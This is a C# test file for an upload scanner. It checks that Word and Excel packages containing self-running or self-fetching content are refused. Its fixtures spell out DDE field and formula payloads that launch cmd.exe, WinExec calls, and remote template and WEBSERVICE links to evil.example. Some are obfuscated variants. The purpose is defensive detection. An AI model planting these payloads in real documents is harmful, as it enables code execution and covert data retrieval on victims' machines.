namespace Ccs.Infrastructure.Tests.Documents;

/// <summary>Office files that reach outside when they are opened.</summary>
public sealed class OfficeWordsTests
{
    private const string Fetches = "upload.fetches-from-outside";
    private const string Runs = "upload.runs-by-itself";
    private const string Kinds = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";

    [Theory]
    [InlineData("hyperlink", "https://gov.krd/", null)]
    [InlineData("hyperlink", "file://server/share/a.docx", null)]
    [InlineData("attachedTemplate", "file:///C:\\Users\\Ali\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm", null)]
    [InlineData("attachedTemplate", "file:///C:/Users/Ali%20A/Normal.dotm", null)]
    [InlineData("attachedTemplate", "Normal.dotm", null)]
    [InlineData("attachedTemplate", "D:\\Forms\\Letter.dotx", null)]
    [InlineData("attachedTemplate", "https://evil.example/a.dotm", Fetches)]
    [InlineData("attachedTemplate", "HTTP://evil.example/a.dotm", Fetches)]
    [InlineData("attachedTemplate", "file://evil.example/a.dotm", Fetches)]
    [InlineData("attachedTemplate", "file:////evil.example/a.dotm", Fetches)]
    [InlineData("attachedTemplate", "file:///%5C%5Cevil.example/a.dotm", Fetches)]
    [InlineData("attachedTemplate", "\\\\evil.example\\a.dotm", Fetches)]
    [InlineData("attachedTemplate", "//evil.example/a.dotm", Fetches)]
    [InlineData("attachedTemplate", "mhtml:https://evil.example/a", Fetches)]
    [InlineData("image", "https://evil.example/dot.png", Fetches)]
    [InlineData("oleObject", "https://evil.example/a.html", Fetches)]
    [InlineData("externalLinkPath", "\\\\evil.example\\a.xlsx", Fetches)]
    [InlineData("frame", "file:///C:/a.docx", Fetches)]
    public async Task Links_that_are_followed_by_themselves(string kind, string target, string? code) =>
        await Judge(
            code,
            Package.WordFile.With(
                "word/_rels/any.xml.rels",
                $"""<Relationships><Relationship Id="r1" Type="{Kinds}{kind}" Target="{target}" TargetMode="External"/></Relationships>"""
            )
        );

    [Theory]
    [InlineData("<w:fldSimple w:instr=' DDEAUTO c:\\\\windows\\\\cmd.exe \"/k calc\" '/>", Runs)]
    [InlineData("<w:r><w:instrText>dde excel x</w:instrText></w:r>", Runs)]
    [InlineData(Begin + "<w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO cmd</w:instrText>" + End, Runs)]
    [InlineData(Begin + Begin + "<w:instrText> QUOTE 68 68 69</w:instrText>" + End + "<w:instrText> cmd</w:instrText>" + End, Runs)]
    [InlineData(Begin + "<w:instrText>INCLUDEPICTURE \"https://evil.example/a.png\" \\d</w:instrText>" + End, Fetches)]
    [InlineData(Begin + "<w:instrText>INCLUDETEXT \"\\\\\\\\evil\\\\a.docx\"</w:instrText>" + End, Fetches)]
    [InlineData(Begin + "<w:instrText>HYPERLINK \"https://gov.krd\"</w:instrText>" + End, null)]
    [InlineData(Begin + "<w:instrText> PAGE </w:instrText>" + End + "<w:t>DDE is old</w:t>", null)]
    [InlineData(Begin + "<w:instrText>INCLUDEPICTURE \"C:\\\\a.png\"</w:instrText>" + End, null)]
    public async Task Fields_that_start_or_fetch_something(string words, string? code) =>
        await Judge(code, Package.WordFile.With("word/footer1.xml", $"<w:ftr xmlns:w='urn:w'>{words}</w:ftr>"));

    [Theory]
    [InlineData("<f>cmd|'/c calc'!A0</f>", Runs)]
    [InlineData("<f>'cmd'|'/c calc'!A0</f>", Runs)]
    [InlineData("<f t='shared'>1+MSEXCEL|'\\..\\calc.exe'!A0</f>", Runs)]
    [InlineData("<f>cm<![CDATA[d|]]>'/c calc'&#33;A0</f>", Runs)]
    [InlineData("<definedName name='a'>cmd|'/c calc'!A0</definedName>", Runs)]
    [InlineData("<conditionalFormatting><cfRule><formula>cmd|'/c calc'!A0</formula></cfRule></conditionalFormatting>", Runs)]
    [InlineData("<dataValidation><formula1>cmd|'/c calc'!A0</formula1></dataValidation>", Runs)]
    [InlineData("<f>_xlfn.RTD(\"evil.server\",,\"a\")</f>", Runs)]
    [InlineData("<f>CALL(\"Kernel32\",\"WinExec\",\"JC\",\"calc\",0)</f>", Runs)]
    [InlineData("<f>1+register.id(\"a\",\"b\")</f>", Runs)]
    [InlineData("<f>WEBSERVICE(\"http://evil.example/\"&amp;A1)</f>", Fetches)]
    [InlineData("<f>_xlfn.WEBSERVICE (A1)</f>", Fetches)]
    [InlineData("<f>_xlfn.IMAGE(\"https://evil.example/a.png\")</f>", Fetches)]
    [InlineData("<f>'https://evil.example/[a.xlsx]S'!A1</f>", Fetches)]
    [InlineData("<f>'\\\\evil\\share\\[a.xlsx]S'!A1</f>", Fetches)]
    [InlineData("<f>SUM(A1:A9)&amp;\" | a|b!c \"&amp;\"WEBSERVICE(\"</f>", null)]
    [InlineData("<f>'Water | roads'!A1+Table1[a|b]</f>", null)]
    [InlineData("<f>HYPERLINK(\"https://gov.krd/\",\"here\")</f>", null)]
    [InlineData("<f>MYWEBSERVICE(1)+[1]Sheet1!A1</f>", null)]
    [InlineData("<v>cmd|'/c calc'!A0</v><is><t>WEBSERVICE(\"http://a\")</t></is>", null)]
    [InlineData("<m:f xmlns:m='http://schemas.openxmlformats.org/officeDocument/2006/math'><m:t>a|b!c</m:t></m:f>", null)]
    public async Task Formulas_that_start_or_fetch_something(string cell, string? code)
    {
        var package = Package.ExcelFile.With("xl/worksheets/sheet1.xml", $"<worksheet xmlns='urn:x'>{cell}</worksheet>");
        if (code is null)
        {
            (await FileTypeTests.Examine("a.xlsx", package.Bytes())).ShouldEndWith("spreadsheetml.sheet");
        }
        else
        {
            (await Refusal("a.xlsx", package)).ShouldBe(code);
            (await Refusal("a.docx", Package.WordFile.With("word/embeddings/a.xlsx", package.Bytes()))).ShouldBe(code);
        }
    }

    [Theory]
    [InlineData("<!DOCTYPE w><w:document xmlns:w='urn:w'/>")]
    [InlineData("<?xml version='1.0'?><!-- x --><!DOCTYPE w [<!ENTITY a 'DDE'>]><w:document xmlns:w='urn:w'/>")]
    [InlineData("\uFEFF<!DOCTYPE w SYSTEM 'https://evil.example/a.dtd'><w/>")]
    public async Task No_part_of_an_office_file_has_a_document_type(string document)
    {
        var lie = "upload.not-what-its-name-says";
        (await Refusal("a.docx", Package.WordFile.Without("word/document.xml").With("word/document.xml", document))).ShouldBe(lie);
        (await Refusal("a.docx", Package.WordFile.With("word/strange.bin", document))).ShouldBe(lie);
        (await Refusal("a.xlsx", Package.ExcelFile.With("xl/styles.xml", document))).ShouldBe(lie);
    }

    [Fact]
    public async Task Links_of_a_workbook_to_programs()
    {
        var dde = "<externalLink xmlns='urn:x'><ddeLink ddeService='cmd' ddeTopic='/c calc'/></externalLink>";
        var refreshed = "<connections xmlns='urn:x'><connection id='1' refreshOnLoad='1'/></connections>";

        (await Refusal("a.xlsx", Package.ExcelFile.With("xl/externalLinks/externalLink1.xml", dde))).ShouldBe(Runs);
        (await Refusal("a.xlsx", Package.ExcelFile.With("xl/strange.bin", dde))).ShouldBe(Runs);
        (await Refusal("a.xlsx", Package.ExcelFile.With("xl/connections.xml", refreshed))).ShouldBe(Fetches);
    }

    [Fact]
    public async Task The_same_holds_for_what_is_embedded_and_for_links_that_can_not_be_read()
    {
        var inner = Package.ExcelFile.With("xl/a.xml", "<ddeLink/>").Bytes();

        (await Refusal("a.docx", Package.WordFile.With("word/embeddings/a.xlsx", inner))).ShouldBe(Runs);
        (await Refusal("a.docx", Package.WordFile.With("word/_rels/a.rels", "<Relationships>"))).ShouldBe("upload.not-what-its-name-says");
        await Judge(null, Package.WordFile.With("word/drawing1.vml", "<xml><br></xml>"));
        await Judge(null, Package.WordFile.With("word/a.svg", "<!DOCTYPE svg PUBLIC '-//W3C//DTD SVG 1.1//EN' 'http://a/svg.dtd'><svg/>"));
    }

    [Fact]
    public async Task A_document_of_another_kind_within_is_dangerous() =>
        (
            await Refusal(
                "a.docx",
                Package.WordFile.With(
                    "word/_rels/b.rels",
                    $"<Relationships><Relationship Type='{Kinds}aFChunk' Target='a.mht'/></Relationships>"
                )
            )
        ).ShouldBe("upload.dangerous");

    private const string Begin = "<w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r>";
    private const string End = "</w:r><w:r><w:fldChar w:fldCharType='separate'/><w:t>x</w:t><w:fldChar w:fldCharType='end'/></w:r>";

    private static async Task Judge(string? code, Package package)
    {
        if (code is null)
        {
            (await FileTypeTests.Examine("a.docx", package.Bytes())).ShouldEndWith("wordprocessingml.document");
        }
        else
        {
            (await Refusal("a.docx", package)).ShouldBe(code);
        }
    }

    private static Task<string> Refusal(string name, Package package) => FileTypeTests.Refusal(name, package.Bytes());
}
